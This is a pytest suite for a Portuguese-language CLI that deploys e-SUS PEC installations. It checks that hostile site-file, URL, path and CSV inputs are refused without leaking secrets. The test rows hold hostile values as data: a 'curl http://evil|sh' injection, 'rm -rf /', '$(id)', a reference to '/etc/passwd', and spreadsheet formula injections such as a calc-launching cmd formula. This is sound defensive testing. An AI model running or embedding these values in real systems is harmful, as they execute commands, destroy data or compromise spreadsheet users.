"""Hostile inputs (issue 12): one row per case, so none of them can come back.

Each site-file row is run as ``esus-runbook executar SITE --out DIR`` and asserts: exit code 2,
the pt-BR message naming the file and the key, one line, no traceback, no English from the
YAML parser, no run folder created; for a secret placed where it does not belong, that
neither the value, its plain sha256, nor any 8-character piece of it is in the message or in
any file under the output folder. The other rows check the same properties on the CLI
commands, the stages and the files they write.

The rows call the CLI's ``main`` in this process (``cli_main``: the same exit code and
output, no interpreter start-up per row); the rows a fresh interpreter could answer
differently (deep nesting, huge integers, a 50 MB file, a FIFO that could block) and one row
of each command run in a separate process, the way a user would (``run_cli``).
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from esus_runbook import commands, stages
from esus_runbook.errors import InputError
from esus_runbook.net import valid_host
from esus_runbook.sites.loading import Site, load_site, validate_site
from esus_runbook.ssh_target import parse_target
from esus_runbook.urls import db_url_problem, http_url_problem

from .support.leaks import secret_needles
from .support.project import EXAMPLES, require_tool, run_cli

SECRET = "Segr3d0-Hostil-7731"
# site-file rows also run in a separate process: the first (a secret in a URL) and those where
# the interpreter's own limits (recursion, integer digits) are what the refusal is about
REAL_PROCESS_ROWS = {"db_url_query_password", "int_5000_digits", "nesting_500_block",
                     "nesting_600_flow", "not_a_site_file"}
BASE = 'site_id: ubs-x\nnome: UBS X\nmunicipio_ibge: "2927408"\n'
PROBES = Path(__file__).parent / "data" / "probes"


def _site(body: str) -> str:
    return BASE + body


# (case, site file text, key in the message, pt-BR words, secret that must not leak)
SITE_ROWS = [
    ("db_url_query_password",
     _site(f"instalacao:\n  db_url: postgresql://esus@db.exemplo:5433/esus?password={SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_query_password_case_encoded",
     _site(f"instalacao:\n  db_url: postgresql://esus@db:5433/esus?sslmode=require&"
           f"%50ass%77ord={SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_senha_param",
     _site(f"instalacao:\n  db_url: postgresql://esus@db/esus?SENHA={SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_passfile_param",
     _site(f"instalacao:\n  db_url: postgresql://esus@db/esus?passfile=/tmp/{SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_sslpassword_param",
     _site(f"instalacao:\n  db_url: postgres://esus@db/esus?sslpassword={SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_userinfo_password",
     _site(f"instalacao:\n  db_url: postgresql://esus:{SECRET}@db:5433/esus\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_fragment",
     _site(f"instalacao:\n  db_url: \"postgresql://esus@db/esus#{SECRET}\"\n"),
     "instalacao.db_url", "não pode ter '#'", SECRET),
    ("db_url_double_encoded_param",
     _site(f"instalacao:\n  db_url: postgresql://esus@db/esus?pass%2577ord={SECRET}\n"),
     "instalacao.db_url", "não pode conter senha", SECRET),
    ("db_url_scheme",
     _site("instalacao:\n  db_url: mysql://esus@db/esus\n"),
     "instalacao.db_url", "deve começar com postgresql://", None),
    ("pec_url_trailing_dot",
     _site("instalacao:\n  pec_url: http://pec.saude.local.:8080\n"),
     "instalacao.pec_url", "servidor inválido", None),
    ("pec_url_numeric_tld",
     _site("instalacao:\n  pec_url: http://pec.123:8080\n"),
     "instalacao.pec_url", "servidor inválido", None),
    ("pec_url_userinfo_password",
     _site(f"instalacao:\n  pec_url: http://admin:{SECRET}@10.0.0.5:8080\n"),
     "instalacao.pec_url", "não pode conter usuário ou senha", SECRET),
    ("pec_url_scheme",
     _site("instalacao:\n  pec_url: file:///etc/passwd\n"),
     "instalacao.pec_url", "deve começar com http://", None),
    ("pec_url_port",
     _site("instalacao:\n  pec_url: http://10.0.0.5:99999\n"),
     "instalacao.pec_url", "porta inválida", None),
    ("installer_url_password",
     _site(f"instalador:\n  url: https://u:{SECRET}@sisaps.saude.gov.br/x.jar\n"),
     "instalador.url", "não pode conter usuário ou senha", SECRET),
    ("https_dominio_shell_injection",
     _site('instalacao:\n  https_dominio: "pec.example.org $(touch /tmp/x) && '
           'curl http://evil|sh #"\n'),
     "instalacao.https_dominio", "domínio inválido", None),
    ("https_dominio_option_injection",
     _site("instalacao:\n  https_dominio: -pec.example.org\n"),
     "instalacao.https_dominio", "domínio inválido", None),
    ("https_porta_range",
     _site("instalacao:\n  https_porta: 70000\n"), "instalacao.https_porta", "acima do máximo",
     None),
    ("versao_injection",
     _site('instalador:\n  versao: "5.5.24; rm -rf /"\n'), "instalador.versao",
     "formato N.N.N", None),
    ("banda_nan", _site("cenario:\n  banda_mbps: .nan\n"), "cenario.banda_mbps",
     "NaN ou infinito", None),
    ("banda_inf", _site("cenario:\n  banda_mbps: .inf\n"), "cenario.banda_mbps",
     "NaN ou infinito", None),
    ("passmark_huge", _site("ambiente:\n  passmark: 1e38\n"), "ambiente.passmark",
     "acima do máximo", None),
    ("usuarios_huge", _site("cenario:\n  usuarios_simultaneos: 1e30\n"),
     "cenario.usuarios_simultaneos", "acima do máximo", None),
    ("int_5000_digits_quoted", _site(f"cenario:\n  usuarios_simultaneos: \"{'9' * 5000}\"\n"),
     "cenario.usuarios_simultaneos", "esperado número inteiro", None),
    ("int_5000_digits", _site(f"cenario:\n  usuarios_simultaneos: {'9' * 5000}\n"), None,
     "número grande demais", None),
    ("list_as_number", _site(f"cenario:\n  banda_mbps: [{', '.join(['1'] * 5000)}]\n"),
     "cenario.banda_mbps", "esperado número", None),
    ("terminal_escape_in_nome", _site("").replace("UBS X", '"UBS \\e[2J\\e]0;x\\a"'), "nome",
     "caractere de controle", None),
    ("line_break_in_path", _site('xml:\n  arquivo: "a\\nrm -rf ~"\n'), "xml.arquivo",
     "caractere de controle", None),
    ("date_feb_30", _site("contra_chave:\n  gerada_em: 2026-02-30\n"), "contra_chave.gerada_em",
     "data inválida", None),
    ("date_month_13", _site("contra_chave:\n  gerada_em: 2026-13-01\n"),
     "contra_chave.gerada_em", "data inválida", None),
    ("datetime_25h", _site("instalacao:\n  data_instalacao: 2026-11-20 25:99:00\n"),
     "instalacao.data_instalacao", "data inválida", None),
    ("site_id_300_chars", _site("").replace("ubs-x", "a" * 300), "site_id",
     "longo demais", None),
    ("nome_long", _site("").replace("UBS X", "x" * 5000), "nome", "longo demais", None),
    ("nesting_500_block",
     _site("cenario:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(500))),
     None, "aninhamento demais", None),
    ("nesting_600_flow", _site("cenario: " + "[" * 600 + "]" * 600 + "\n"), None,
     "aninhamento demais", None),
    ("two_documents", _site("---\nsite_id: outro\n"), None, "mais de um documento", None),
    ("control_character", _site("gerada_por: a\x01b\n"), None, "caractere de controle", None),
    ("not_a_site_file", "root: x\nsenha_root: " + SECRET + "\n", None,
     "não é um arquivo de site", SECRET),
]


def _output_files(out: Path) -> list[Path]:
    return [p for p in out.rglob("*") if p.is_file()] if out.exists() else []


def assert_refused(proc: subprocess.CompletedProcess, *words: str) -> None:
    """Exit 2, a pt-BR message holding ``words``, one line per problem, no traceback and no
    English from the libraries."""
    assert proc.returncode == 2, (proc.returncode, proc.stderr[-2000:])
    err = proc.stderr
    assert "Traceback" not in err
    for english in ("Error", "but found", "expected", "could not", "invalid"):
        assert english not in err, err
    for w in words:
        assert w in err, err


def assert_no_leak(secret: str, texts: list[str], files: list[Path]) -> None:
    needles = secret_needles(secret)
    for text in texts:
        found = [n for n in needles if n.decode() in text]
        assert not found, "segredo (ou parte/hash dele) na mensagem"
    for f in files:
        data = f.read_bytes()
        assert not [n for n in needles if n in data], f"segredo em {f}"


@pytest.mark.parametrize("case,text,key,words,secret", SITE_ROWS, ids=[r[0] for r in SITE_ROWS])
def test_hostile_site_file_is_refused_before_anything_is_written(tmp_path, cli_main, case,
                                                                 text, key, words, secret):
    (tmp_path / "entrada").mkdir()
    site = tmp_path / "entrada" / "site.yaml"
    site.write_text(text, encoding="utf-8")
    out, cwd = tmp_path / "execucoes", tmp_path / "cwd"
    cwd.mkdir()
    proc = (run_cli if case in REAL_PROCESS_ROWS else cli_main)("executar", site, "--execucoes", out,
                                                                 cwd=cwd)
    assert_refused(proc, words, str(site) + (f":{key}" if key else ""))
    assert len(proc.stderr.strip().splitlines()) == 1
    assert len(proc.stderr) < 1000, "a mensagem não repete o conteúdo do arquivo"
    assert not out.exists(), "nada pode ser criado para uma entrada recusada"
    assert list(cwd.iterdir()) == []
    if secret:
        assert_no_leak(secret, [proc.stdout, proc.stderr], _output_files(tmp_path / "cwd"))


@pytest.mark.parametrize("args,words", [
    (["--pec-url", f"http://admin:{SECRET}@127.0.0.1:9"], ["--pec-url", "usuário ou senha"]),
    (["--pec-url", "gopher://127.0.0.1:9"], ["--pec-url", "http://"]),
    (["--pec-url", "http://127.0.0.1:9", "--db-url",
      f"postgresql://u@127.0.0.1:5433/esus?Password={SECRET}"], ["--db-url", "senha"]),
    (["--pec-url", "http://127.0.0.1:9", "--db-url",
      f"postgresql://u:{SECRET}@127.0.0.1:5433/esus"], ["--db-url", "senha"]),
    (["--pec-url", "http://127.0.0.1:9", "--db-url", "mongodb://u@127.0.0.1/esus"],
     ["--db-url", "postgresql://"]),
], ids=["pec_password", "pec_scheme", "db_query_password", "db_userinfo_password",
        "db_scheme"])
def test_verify_install_uses_the_same_url_rules(tmp_path, cli_main, args, words):
    report = tmp_path / "v.json"
    runner = run_cli if args[1].startswith("http://admin:") else cli_main  # one real process
    proc = runner("conferir-instalacao", *args, "--json", report)
    assert_refused(proc, *words)
    assert not report.exists()
    assert_no_leak(SECRET, [proc.stdout, proc.stderr], [])


# --------------------------------------------------------------------------- special files
def test_huge_yaml_is_refused_without_parsing(tmp_path):
    site = tmp_path / "grande.yaml"
    with site.open("w") as fh:
        line = "# " + "comentário " * 9 + "\n"
        for _ in range(50 * 1024 * 1024 // len(line.encode())):
            fh.write(line)
    assert site.stat().st_size > 45 * 1024 * 1024
    proc = run_cli("executar", site, "--execucoes", tmp_path / "out", timeout=120)
    assert_refused(proc, "grande demais", "limite 1.0 MiB")
    assert not (tmp_path / "out").exists()


def test_thousands_of_unknown_keys_get_a_short_answer(tmp_path, cli_main):
    site = tmp_path / "chaves.yaml"
    site.write_text(BASE + "".join(f"chave_{i}: 1\n" for i in range(5000)))
    proc = cli_main("executar", site, "--execucoes", tmp_path / "out")
    assert_refused(proc, "chave desconhecida", "e mais 4980 chaves desconhecidas")
    assert len(proc.stderr.splitlines()) == 21
    assert not (tmp_path / "out").exists()


def test_inventory_size_and_problem_count_are_bounded(tmp_path, cli_main):
    (tmp_path / "a.yaml").write_text(BASE)
    inventory = tmp_path / "inventario.yaml"
    inventory.write_text("sites:\n" + "  - a.yaml\n" * 5001)
    proc = cli_main("executar", inventory, "--execucoes", tmp_path / "out")
    assert_refused(proc, "5001 sites (limite 5000)")
    inventory.write_text("sites:\n" + "".join(f"  - {{site_id: s{i}, nome: S}}\n"
                                               for i in range(300)))
    proc = cli_main("executar", inventory, "--execucoes", tmp_path / "out")
    assert_refused(proc, "municipio_ibge", "e mais 200 problemas")
    assert len(proc.stderr.splitlines()) == 101
    assert not (tmp_path / "out").exists()


def test_symlink_loop_is_refused(tmp_path, cli_main):
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    a.symlink_to(b)
    b.symlink_to(a)
    proc = cli_main("executar", a, "--execucoes", tmp_path / "out")
    assert_refused(proc, "link simbólico em ciclo", str(a))
    assert not (tmp_path / "out").exists()


def test_symlink_loop_inside_an_inventory_or_a_site_path(tmp_path, cli_main):
    a, b = tmp_path / "a", tmp_path / "b"
    a.symlink_to(b)
    b.symlink_to(a)
    inventory = tmp_path / "inventario.yaml"
    inventory.write_text("sites:\n  - a\n")
    proc = cli_main("executar", inventory, "--execucoes", tmp_path / "out")
    assert_refused(proc, "link simbólico em ciclo", str(a))
    assert not (tmp_path / "out").exists()
    site = tmp_path / "s.yaml"
    site.write_text(BASE + "ambiente:\n  probe: a/sondagem.json\n")
    result = stages.evaluate("ambiente", load_site(site), stages.StageContext())
    check = next(c for c in result.checks if c.id == "AMB_SONDAGEM")
    assert check.status.value == "falha" and "link simbólico em ciclo" in check.observed


def test_fifo_as_site_file_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / "site.yaml"
    os.mkfifo(fifo)
    # the timeout only guards against the old hang; the assertion is on the refusal
    proc = run_cli("executar", fifo, "--execucoes", tmp_path / "out", timeout=120)
    assert_refused(proc, "não é um arquivo comum", str(fifo))
    assert not (tmp_path / "out").exists()


def test_fifo_as_secret_file_does_not_block_the_stage(tmp_path):
    fifo = tmp_path / "cc"
    os.mkfifo(fifo)
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "contra_chave": {"contra_chave_file": str(fifo)}},
                         source=tmp_path / "s.yaml")
    result = stages.evaluate("contra_chave", site, stages.StageContext(env={}))
    assert result.inputs["contra_chave.contra_chave_file"] == "ilegivel"
    cc = next(c for c in result.checks if c.id == "CC_CONTRA_CHAVE")
    assert cc.status.value == "falha" and "não é um arquivo comum" in cc.remedy


def test_inventory_listing_a_system_file_never_echoes_it(tmp_path, cli_main):
    secret_file = tmp_path / "shadow"
    secret_file.write_text(f"root:{SECRET}:19000:0:99999:7:::\ndaemon: {SECRET}x\n"
                           f"bin: {SECRET}y\n")
    inventory = tmp_path / "inventario.yaml"
    inventory.write_text(f"sites:\n  - {secret_file}\n")
    proc = cli_main("executar", inventory, "--execucoes", tmp_path / "out")
    assert_refused(proc, "não é um arquivo de site", str(secret_file))
    assert "chave desconhecida" not in proc.stderr
    assert_no_leak(SECRET, [proc.stderr, proc.stdout], [])


def test_run_refuses_an_inventory_of_several_sites(tmp_path, cli_main):
    proc = cli_main("executar", EXAMPLES / "inventario.yaml", "--execucoes", tmp_path / "out")
    assert_refused(proc, "3 sites", "esus-runbook lote")
    assert not (tmp_path / "out").exists()


def test_site_form_reads_an_impossible_date_as_a_refusal(tmp_path):
    from esus_runbook.form import model as form

    site = tmp_path / "s.yaml"
    site.write_text(BASE + "contra_chave:\n  gerada_em: 2026-02-30\n")
    with pytest.raises(InputError, match="contra_chave.gerada_em: data inválida"):
        form._read(site)
    site.write_text(BASE + "nome2: \"a\x01b\"\n")
    with pytest.raises(InputError, match="caractere de controle não permitido"):
        form._read(site)


def test_json_snapshot_with_nan_is_refused(tmp_path):
    snap = tmp_path / "site.json"
    snap.write_text('{"site_id": "s", "nome": "S", "municipio_ibge": "2927408", '
                    '"cenario": {"banda_mbps": NaN}}')
    with pytest.raises(InputError, match="NaN"):
        load_site(snap)


def test_site_snapshot_is_strict_json(tmp_path):
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "cenario": {"banda_mbps": 20.5}}, source=tmp_path / "s.yaml")
    text = json.dumps(site.to_json(), allow_nan=False)
    assert load_site_from_text(tmp_path, text).cenario["banda_mbps"] == 20.5


def test_forged_snapshot_digest_does_not_skip_the_url_rules(tmp_path):
    from esus_runbook.sites.loading import _snapshot_digest

    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408"},
                         source=tmp_path / "s.yaml")
    snap = site.to_json()
    snap["instalacao"]["db_url"] = f"postgresql://u@db/esus?password={SECRET}"
    snap["instalacao"]["https_dominio"] = "x $(id)"
    snap["_validated"] = _snapshot_digest(snap)  # anyone can recompute the digest
    with pytest.raises(InputError) as exc:
        load_site_from_text(tmp_path, json.dumps(snap))
    text = str(exc.value)
    assert "instalacao.db_url" in text and "instalacao.https_dominio" in text
    assert SECRET not in text


def load_site_from_text(tmp_path: Path, text: str) -> Site:
    p = tmp_path / "snap.json"
    p.write_text(text)
    return load_site(p)


# --------------------------------------------------------------------------- commands
HOSTILE_USER = "u$(touch$IFS$9MARK);id"


def _shell_words(line: str, program: str, tmp_path: Path) -> list[str]:
    """What a real bash passes to ``program`` for ``line`` (``program`` replaced by a
    function printing its arguments), run in ``tmp_path``; no file may appear there."""
    bash = require_tool("bash")
    script = f'{program}() {{ printf "%s\\0" "$@"; }}\n{line}\n'
    proc = subprocess.run([bash, "-c", script], capture_output=True, cwd=tmp_path, timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert not (tmp_path / "MARK").exists(), "o comando executou um valor do site"
    return proc.stdout.decode().split("\0")[:-1]


def test_installer_and_verify_commands_quote_every_site_value(tmp_path):
    from esus_runbook.pec import command
    from esus_runbook.stages.instalacao import installer_command

    db_url = f"postgresql://{HOSTILE_USER.replace('$', '%24')}@db.exemplo:5432/esus"
    db_url_raw = f"postgresql://{HOSTILE_USER}@db.exemplo:5432/esus"
    for url in (db_url, db_url_raw):
        site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                              "instalador": {"versao": "5.5.24"},
                              "instalacao": {"db_url": url, "db_password_env": "PEC_SENHA",
                                             "https_dominio": "pec.exemplo.gov.br",
                                             "https_porta": 8443}},
                             source=tmp_path / "s.yaml")
        cmd = installer_command(site, "eSUS-AB-PEC-5.5.24-Linux64.jar")
        line = next(x for x in cmd["linhas"] if "java -jar" in x).replace(
            "LANG=pt_BR.UTF-8 java", "java")
        words = _shell_words(line, "java", tmp_path)
        assert f"-username={HOSTILE_USER}" in words
        assert "-cert-domain=pec.exemplo.gov.br" in words and "-cert-port=8443" in words
        verify = command("http://10.0.0.5:8080", url, "PEC_SENHA", None, "5.5.24")
        words = _shell_words(verify.replace("esus-runbook conferir-instalacao", "verify"),
                             "verify", tmp_path)
        assert words[words.index("--db-url") + 1] == url


def test_download_and_probe_commands_quote_paths(tmp_path):
    from esus_runbook.stages.download import download_command

    odd = tmp_path / "pasta $(touch MARK) 'x'"
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "instalador": {"versao": "5.5.24"}}, source=tmp_path / "s.yaml")
    line = download_command(site, odd).replace("esus-runbook baixar", "dl")
    words = _shell_words(line, "dl", tmp_path)
    assert words[words.index("--pasta") + 1] == str(odd)


@pytest.mark.parametrize("value", ["a b", "it's", "$(id)", "`id`", "a;b", "x\u2019y", "@x",
                                   "C:\\Program Files"])
def test_powershell_quoting_is_a_literal(value):
    word = commands.ps(value)
    assert word.startswith("'") and word.endswith("'")
    inner = word[1:-1]
    for q in "'\u2018\u2019\u201a\u201b":  # a quote inside is always doubled
        assert inner.replace(q * 2, "").count(q) == 0
    assert inner.replace("''", "'").replace("\u2019\u2019", "\u2019") == value


# --------------------------------------------------------------------------- secrets
def test_secret_file_is_fingerprinted_slow_and_salted_never_hashed(tmp_path):
    cc = tmp_path / "contra-chave.txt"
    cc.write_text(SECRET + "\n")
    os.chmod(cc, 0o600)
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "contra_chave": {"contra_chave_file": str(cc)}},
                         source=tmp_path / "s.yaml")
    run_site = tmp_path / "run" / "s"
    run_site.mkdir(parents=True)
    result = stages.evaluate("contra_chave", site, stages.StageContext(run_site_dir=run_site,
                                                                       env={}))
    entry = result.inputs["contra_chave.contra_chave_file"]
    assert entry.startswith("pbkdf2-sha256$")
    again = stages.fingerprint("contra_chave", site)["contra_chave.contra_chave_file"]
    assert again == entry, "an unchanged secret file keeps its fingerprint (resume)"
    result.save(run_site)
    content_hashes = {hashlib.sha256(cc.read_bytes()).hexdigest().encode(),
                      hashlib.sha256(SECRET.encode()).hexdigest().encode()}
    for f in _output_files(tmp_path / "run"):
        data = f.read_bytes()
        assert not any(h in data for h in content_hashes)
    assert_no_leak(SECRET, [], _output_files(tmp_path / "run"))


# --------------------------------------------------------------------------- CSV
def test_csv_cells_that_start_a_formula_are_escaped_and_read_back(tmp_path):
    from esus_runbook.installer.releases import Registry, Release, read_registry_file
    from esus_runbook.report.rollup import write_rollup

    run_dir = tmp_path / "run"
    for i, nome in enumerate(("=HYPERLINK(\"http://evil\";\"x\")", "+1", "@SUM(A1)",
                              "-2+3", "\tx", "UBS Boa")):
        site = validate_site({"site_id": f"s{i}", "nome": nome, "municipio_ibge": "2927408"},
                             source=tmp_path / "s.yaml")
        (run_dir / site.site_id).mkdir(parents=True)
        (run_dir / site.site_id / "site.json").write_text(json.dumps(site.to_json()))
    write_rollup(run_dir)
    with (run_dir / "rollup.csv").open(newline="", encoding="utf-8") as fh:
        nomes = {row["nome"] for row in csv.DictReader(fh)}
    assert "'=HYPERLINK(\"http://evil\";\"x\")" in nomes and "'+1" in nomes
    assert "UBS Boa" in nomes
    assert not any(n[:1] in ("=", "+", "-", "@", "\t", "\r") for n in nomes)

    team = tmp_path / "registro-instaladores.csv"
    Registry(team).record(Release("9.9.99", "linux", "x.jar", 10, "a" * 64,
                                  observacao="=cmd|' /C calc'!A0", origem="@evil"))
    with team.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            assert all(v[:1] not in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
    back = read_registry_file(team)[("9.9.99", "linux")]
    assert back.observacao == "=cmd|' /C calc'!A0" and back.origem == "@evil"


# --------------------------------------------------------------------------- probe
def test_probe_with_only_the_core_keys_recognises_the_distribution(tmp_path):
    from esus_runbook.probe import normalize

    raw = json.loads((PROBES / "minima-v1.json").read_text())
    raw["os"]["distro"] = "Debian GNU/Linux 12 (bookworm)"
    raw["os"].pop("distro_id", None)
    assert normalize(raw)["os"]["distro_id"] == "debian"
    probe_file = tmp_path / "sondagem.json"
    probe_file.write_text(json.dumps(raw))
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "cenario": {"usuarios_simultaneos": 5},
                          "ambiente": {"probe": str(probe_file)}}, source=tmp_path / "s.yaml")
    result = stages.evaluate("ambiente", site, stages.StageContext())
    so = next(c for c in result.checks if c.id == "AMB_SO")
    assert so.status.value == "ok", (so.observed, so.remedy)
    for text, sid in (("Ubuntu 22.04.4 LTS", "ubuntu"), ("Red Hat Enterprise Linux 9.3",
                                                          "rhel"),
                      ("Rocky Linux 9.2 (Blue Onyx)", "rocky"), ("Slackware 15", None)):
        raw["os"]["distro"] = text
        assert normalize(raw)["os"]["distro_id"] == sid


@pytest.mark.parametrize("path", ["/opt/x; rm -rf /", "/opt/$(id)", "/opt/a b",
                                  "/opt/%n", "relativo/opt"])
def test_probe_install_path_with_shell_syntax_is_ignored(path):
    """The install path goes into the JVM drop-in (systemd) and the commands shown."""
    from esus_runbook.probe import normalize

    raw = json.loads((PROBES / "minima-v1.json").read_text())
    raw["install_path"]["path"] = path
    p = normalize(raw)
    assert p["install_path"]["path"] is None
    assert any("install_path.path" in w for w in p["warnings"])
    raw["install_path"]["path"] = "/srv/e-SUS_2"
    assert normalize(raw)["install_path"]["path"] == "/srv/e-SUS_2"
    windows = json.loads((PROBES / "windows-server-2019.json").read_text())
    windows["install_path"]["path"] = "C:\\Program Files (x86)\\e-SUS"
    assert normalize(windows)["install_path"]["path"] == "C:\\Program Files (x86)\\e-SUS"


def test_probe_text_fields_and_port_lists_are_bounded():
    from esus_runbook.probe import normalize

    raw = json.loads((PROBES / "minima-v1.json").read_text())
    raw["cpu"]["model"] = "x" * 100_000
    raw["ports"].update({f"k{i}": "free" for i in range(1000)})
    raw["ports"]["99999"] = "in_use"
    raw["ports"]["8080"] = "y" * 100_000
    p = normalize(raw)
    assert p["cpu"]["model"] is None
    assert p["ports"] and all(k.isdigit() and 1 <= int(k) <= 65535 for k in p["ports"])
    assert "99999" not in p["ports"] and p["ports"]["8080"] == "unknown"
    assert sum(len(w) for w in p["warnings"]) < 2000


def test_fifo_as_probe_file_is_refused(tmp_path):
    from esus_runbook.probe import load_probe

    fifo = tmp_path / "sondagem.json"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="não é um arquivo comum"):
        load_probe(fifo)


# --------------------------------------------------------------------------- psycopg
def test_database_url_without_psycopg_says_how_to_install(tmp_path, monkeypatch):
    from esus_runbook.pec import verify_install
    from esus_runbook.stages.instalacao import installer_command

    monkeypatch.setitem(sys.modules, "psycopg", None)  # import psycopg -> ImportError
    site = validate_site({"site_id": "s", "nome": "S", "municipio_ibge": "2927408",
                          "instalador": {"versao": "5.5.24"},
                          "instalacao": {"db_url": "postgresql://pec@db.exemplo:5432/esus"}},
                         source=tmp_path / "s.yaml")
    assert "-username=pec" in installer_command(site, "x.jar")["texto"]
    report = verify_install("http://127.0.0.1:9", db_url=site.instalacao["db_url"],
                            timeout=1, samples=1)
    db = next(c for c in report.checks if c.id == "DB_CONEXAO")
    assert db.status.value == "pendente"
    assert "pip install 'esus-runbook[postgres]'" in db.remedy


# The one host-name rule (esus_runbook.net.valid_host), used by the site file, every URL and
# every SSH target: (host, valid). Why each: the function's docstring and
# docs/limites-de-entrada.md.
HOSTS = [
    ("10.0.0.5", True), ("pec", True), ("pec-ubs1.saude.local", True),
    ("PEC.Saude.GOV.br", True), ("a" * 63 + ".local", True),
    (".".join(["a" * 63] * 3 + ["b" * 61]), True),                # 253 characters
    (".".join(["a" * 63] * 3 + ["b" * 62]), False),               # 254
    ("a" * 64 + ".local", False),                                 # a label over 63
    ("pec.saude.local.", False),                                  # trailing dot
    ("pec..local", False), (".pec", False), ("", False),
    ("10.0.0.256", False), ("1.2.3", False), ("127.1", False),    # numbers, not IPv4
    ("123", False), ("pec.123", False), ("0x7f", False), ("pec.0x1f", False),
    ("123.pec", True), ("pec1.b2", True),                         # digits inside: a name
    ("xn--sade-5qa.gov.br", True), ("saúde.gov.br", False),       # IDN: the ASCII form only
    ("host_1", False), ("_srv.pec.local", False),                 # underscores
    ("-pec.local", False), ("pec-.local", False),
    ("::1", True), ("fe80::1", True), ("[::1]", True), ("[2001:db8::5]", True),
    ("[10.0.0.5]", False), ("[pec.local]", False), ("[::1", False), ("::g", False),
]


@pytest.mark.parametrize("host,valid", HOSTS, ids=[f"{h or 'vazio'}-{v}" for h, v in HOSTS])
def test_one_host_name_rule(host, valid):
    assert valid_host(host) is valid
    # every caller agrees: URLs (IPv6 in brackets there) and SSH targets
    url_host = host if host.startswith("[") or ":" not in host else f"[{host}]"
    if host:  # an empty host is another refusal (no server at all)
        assert (http_url_problem(f"http://{url_host}:8080") is None) is valid, host
        assert (db_url_problem(f"postgresql://esus@{url_host}:5433/esus") is None) is valid, host
    ssh_host = f"[{host}]:2222" if ":" in host and not host.startswith("[") else host
    if not host.startswith("["):  # SSH writes [IPv6]:porta; the brackets are not the host
        try:
            parse_target(f"suporte@{ssh_host}")
            accepted = True
        except InputError:
            accepted = False
        assert accepted is valid, host
